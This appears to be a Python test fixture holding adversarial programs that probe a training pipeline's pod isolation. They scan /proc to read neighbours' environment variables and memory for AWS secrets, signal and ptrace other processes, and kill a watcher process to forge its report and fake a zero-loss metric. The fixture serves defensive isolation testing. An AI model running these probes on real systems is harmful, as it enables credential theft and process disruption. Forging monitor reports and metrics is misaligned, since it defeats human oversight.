"""Programs that an image of a user may bring as main of a step pod."""

# For 20 seconds: signal, trace and read every neighbour, then say what came of it as metrics. Pause, collect and fetch have user 65531.
ATTACK = """
import ctypes, json, os, pathlib, signal, time

def credentialed(process):
    try:
        return "Uid:\\t65531" in (process / "status").read_text()
    except OSError:
        return False

def neighbours():
    return {int(each.name): each for each in pathlib.Path("/proc").glob("[0-9]*") if int(each.name) != os.getpid()}

found = {"secrets": 0, "signalled": 0, "traced": 0, "refused": 0}
first = {pid for pid, process in neighbours().items() if credentialed(process)}
ptrace = ctypes.CDLL(None, use_errno=True).ptrace
end = time.monotonic() + 20
while time.monotonic() < end:
    for pid, process in neighbours().items():
        theirs = credentialed(process)
        for file in ("environ", "mem", "maps", "root/flywheel", "cwd/.", "fd/."):
            try:
                target = process / file
                text = b"".join(os.fsencode(each) for each in target.iterdir()) if file.endswith((".", "flywheel")) else target.open("rb").read(1 << 20)
                found["secrets"] += theirs or b"AWS_SECRET_ACCESS_KEY" in text
            except PermissionError:
                found["refused"] += theirs
            except OSError:
                pass
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
                found["signalled"] += theirs
            except PermissionError:
                found["refused"] += theirs
            except OSError:
                pass
        found["traced"] += theirs and ptrace(16, pid, None, None) == 0
    time.sleep(0.05)
found["vanished"] = len(first - neighbours().keys())
found["credentialed"] = len(first)
found["own"] = len([name for name in os.environ if name.startswith(("AWS_", "SOURCE_"))])
pathlib.Path("/flywheel/outputs/metrics.json").write_text(json.dumps(found))
"""

# End watch, forge what it would say of main, and go on for ever.
FORGE_AND_OUTSTAY = """
import os, pathlib, signal, time
forged = False
while True:
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            if b"flywheel_runtime\\0watch" in (process / "cmdline").read_bytes():
                folder = process / "root/flywheel/watch"
                (folder / "report").write_text('{"v": 1, "timedOut": false, "usage": {}}')
                os.kill(int(process.name), signal.SIGKILL)
                forged = True
        except OSError:
            continue
    if forged:
        pathlib.Path("/flywheel/outputs/metrics.json").write_text('{"loss": 0.0}')
    time.sleep(0.05)
"""

# Write everything as its own secret.
PRIVATE = """
import os, pathlib
os.umask(0o077)
model = pathlib.Path("/flywheel/outputs/model")
(model / "deep").mkdir(parents=True)
(model / "model.onnx").write_bytes(b"weights")
(model / "deep/labels.txt").write_bytes(b"late")
(model / "deep").chmod(0)
pathlib.Path("/flywheel/outputs/metrics.json").write_text('{"loss": 0.5}')
"""
